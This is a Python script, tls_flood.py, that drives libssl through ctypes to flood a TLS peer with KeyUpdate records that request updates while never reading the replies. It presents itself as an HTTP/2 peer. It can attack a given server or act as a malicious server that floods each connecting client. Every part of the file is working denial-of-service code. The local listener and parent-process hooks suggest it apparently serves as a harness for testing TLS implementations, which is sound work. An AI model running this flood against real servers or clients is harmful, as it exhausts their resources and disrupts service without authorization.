"""An end of TLS that changes its keys without end, and never reads what it asks for.

    tls_flood.py SERVER HOST:PORT                        attacks a server
    tls_flood.py CLIENT --certificate FILE --key FILE    is a server, for clients to meet

Each record wants the other end to change its keys too (RFC 8446 §4.6.3). Both greet in HTTP/2 first,
so that they are taken for peers. SERVER ends once the server has ended the connection, and prints the
records that it had sent by then; it fails after `--seconds`. CLIENT attacks every client that comes,
once it has a call of it.
Python's own ssl cannot change keys, so this is libssl's.
"""

import argparse
import ctypes
import ctypes.util
import json
import socket
import sys
import threading
import time

import peer

SSL = ctypes.CDLL(ctypes.util.find_library("ssl"))
for name in ("TLS_client_method", "TLS_server_method", "SSL_CTX_new", "SSL_new", "BIO_new", "BIO_s_mem"):
    getattr(SSL, name).restype = ctypes.c_void_p

WANT_READ = 2
FILE_IS_PEM = 1
UPDATE_REQUESTED = 1
# At once, so that a reader never runs out of them.
BATCH = 1_000
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS = b"\0\0\0\4\0\0\0\0\0"
HEADERS = 1
H2 = ctypes.create_string_buffer(b"h2", 2)


def pointer(value):
    return ctypes.c_void_p(value)


@ctypes.CFUNCTYPE(
    ctypes.c_int, ctypes.c_void_p, ctypes.POINTER(ctypes.c_void_p),
    ctypes.POINTER(ctypes.c_ubyte), ctypes.c_void_p, ctypes.c_uint, ctypes.c_void_p)
def choose_h2(_ssl, chosen, count, _offered, _length, _argument):
    chosen[0], count[0] = ctypes.addressof(H2), 2
    return 0


class End:
    """One connection: records are made in memory and sent in batches."""

    def __init__(self, stream, context, is_client):
        self.socket = stream
        self.ssl = pointer(SSL.SSL_new(context))
        self.input = pointer(SSL.BIO_new(pointer(SSL.BIO_s_mem())))
        self.output = pointer(SSL.BIO_new(pointer(SSL.BIO_s_mem())))
        SSL.SSL_set_bio(self.ssl, self.input, self.output)
        (SSL.SSL_set_connect_state if is_client else SSL.SSL_set_accept_state)(self.ssl)

    def send(self):
        """Sends the records that were made."""
        memory = ctypes.create_string_buffer(1 << 16)
        while (count := SSL.BIO_read(self.output, memory, len(memory))) > 0:
            self.socket.sendall(memory.raw[:count])

    def shake_hands(self):
        while (result := SSL.SSL_do_handshake(self.ssl)) != 1:
            if SSL.SSL_get_error(self.ssl, result) != WANT_READ:
                raise OSError("the handshake failed")
            self.send()
            came = self.socket.recv(1 << 16)
            if not came:
                raise OSError("the other end closed the connection in the handshake")
            SSL.BIO_write(self.input, came, len(came))
        self.send()

    def await_call(self):
        """Returns when HEADERS have come."""
        came = b""
        memory = ctypes.create_string_buffer(1 << 16)
        while True:
            records = self.socket.recv(1 << 16)
            if not records:
                raise OSError("the client made no call")
            SSL.BIO_write(self.input, records, len(records))
            while (count := SSL.SSL_read(self.ssl, memory, len(memory))) > 0:
                came += memory.raw[:count]
            frame = len(PREFACE)
            while frame + 9 <= len(came):
                if came[frame + 3] == HEADERS:
                    return
                frame += 9 + int.from_bytes(came[frame:frame + 3], "big")

    def say(self, text):
        SSL.SSL_write(self.ssl, text, len(text))
        self.send()

    def flood(self, until):
        """Changes keys until the other end has had enough; how many records that took."""
        sent = 0
        while time.monotonic() < until:
            for _ in range(BATCH):
                if SSL.SSL_key_update(self.ssl, UPDATE_REQUESTED) != 1:
                    raise RuntimeError("the keys cannot be changed")
                SSL.SSL_do_handshake(self.ssl)
            try:
                self.send()
            except (ConnectionError, TimeoutError):
                return sent
            sent += BATCH
        return None


def context(options):
    made = pointer(SSL.SSL_CTX_new(pointer(
        SSL.TLS_client_method() if options.role == "SERVER" else SSL.TLS_server_method())))
    if options.role == "SERVER":
        SSL.SSL_CTX_set_alpn_protos(made, b"\2h2", 3)
    else:
        SSL.SSL_CTX_set_alpn_select_cb(made, choose_h2, None)
        if SSL.SSL_CTX_use_certificate_chain_file(made, options.certificate.encode()) != 1 \
                or SSL.SSL_CTX_use_PrivateKey_file(made, options.key.encode(), FILE_IS_PEM) != 1:
            sys.exit("tls_flood: the certificate or its key cannot be used")
    return made


def attack(options):
    host, _, port = options.target.rpartition(":")
    with socket.create_connection((host, int(port)), timeout=options.seconds) as stream:
        end = End(stream, context(options), True)
        end.shake_hands()
        end.say(PREFACE + SETTINGS)
        sent = end.flood(time.monotonic() + options.seconds)
    print(json.dumps({"records": sent}), flush=True)
    return 1 if sent is None else 0


def serve(options):
    made = context(options)

    def meet(stream):
        with stream:
            try:
                end = End(stream, made, False)
                end.shake_hands()
                end.say(SETTINGS)
                end.await_call()
                end.flood(time.monotonic() + options.seconds)
            except OSError:
                pass

    listener = socket.create_server(("127.0.0.1", 0))
    peer.announce(f"127.0.0.1:{listener.getsockname()[1]}")
    while True:
        stream, _ = listener.accept()
        threading.Thread(target=meet, args=(stream,), daemon=True).start()


def main():
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    roles = parser.add_subparsers(dest="role", required=True)
    server = roles.add_parser("SERVER", help="attack a server")
    server.add_argument("target", help="host:port")
    client = roles.add_parser("CLIENT", help="be a server that attacks its clients")
    client.add_argument("--certificate", required=True)
    client.add_argument("--key", required=True)
    for role in (server, client):
        role.add_argument("--seconds", type=float, default=20, help="how long it goes on at most")
    options = parser.parse_args()
    peer.follow_parent()
    return attack(options) if options.role == "SERVER" else serve(options)


if __name__ == "__main__":
    sys.exit(main())
